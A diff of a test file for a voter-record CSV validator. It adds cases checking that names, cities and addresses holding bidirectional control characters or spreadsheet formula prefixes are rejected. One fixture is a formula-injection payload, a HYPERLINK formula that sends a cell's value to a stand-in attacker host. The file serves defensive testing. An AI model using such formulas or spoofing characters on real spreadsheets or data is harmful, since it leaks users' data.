@@ -3,7 +3,6 @@ import {
 	checkHeader,
 	checkVoterRow,
 	CsvParser,
-	csvField,
 	firstErrors,
 	isIsoCalendarDate,
 	normalizeText,
@@ -119,9 +118,6 @@ describe('CsvParser', () => {
 
 describe('writing', () => {
 	it('quotes only what needs it, and a written row reads back the same', () => {
-		expect(csvField('plain')).toBe('plain');
-		expect(csvField('a,b')).toBe('"a,b"');
-		expect(csvField('say "hi"')).toBe('"say ""hi"""');
 		const line = voterCsvRow({
 			givenName: 'Jan "Honza"',
 			familyName: 'Novák',
@@ -211,6 +207,15 @@ describe('checkVoterRow', () => {
 			[{ birth_date: '1899-12-31' }, 'birth_date', 'date-too-early'],
 			[{ given_name: 'x'.repeat(101) }, 'given_name', 'too-long'],
 			[{ given_name: 'Ja\u0000na' }, 'given_name', 'invalid-characters'],
+			[{ family_name: 'Nov\u202eáková' }, 'family_name', 'invalid-characters'],
+			[{ city: 'Br\u2066no' }, 'city', 'invalid-characters'],
+			[{ address_line: 'Dlouhá\u00855' }, 'address_line', 'invalid-characters'],
+			[{ given_name: '=HYPERLINK("http://evil.example/"&A1,"Klikni")' }, 'given_name', 'formula-start'],
+			[{ family_name: '+Novák' }, 'family_name', 'formula-start'],
+			[{ address_line: '-1 Dlouhá' }, 'address_line', 'formula-start'],
+			[{ city: '@Brno' }, 'city', 'formula-start'],
+			[{ postal_code: '=602' }, 'postal_code', 'formula-start'],
+			[{ given_name: ' \t=1' }, 'given_name', 'formula-start'],
 			[{ country_code: 'CZE' }, 'country_code', 'country-invalid'],
 			[{ city: 'x'.repeat(101) }, 'city', 'too-long'],
 			[{ country_code: 'C1' }, 'country_code', 'country-invalid'],
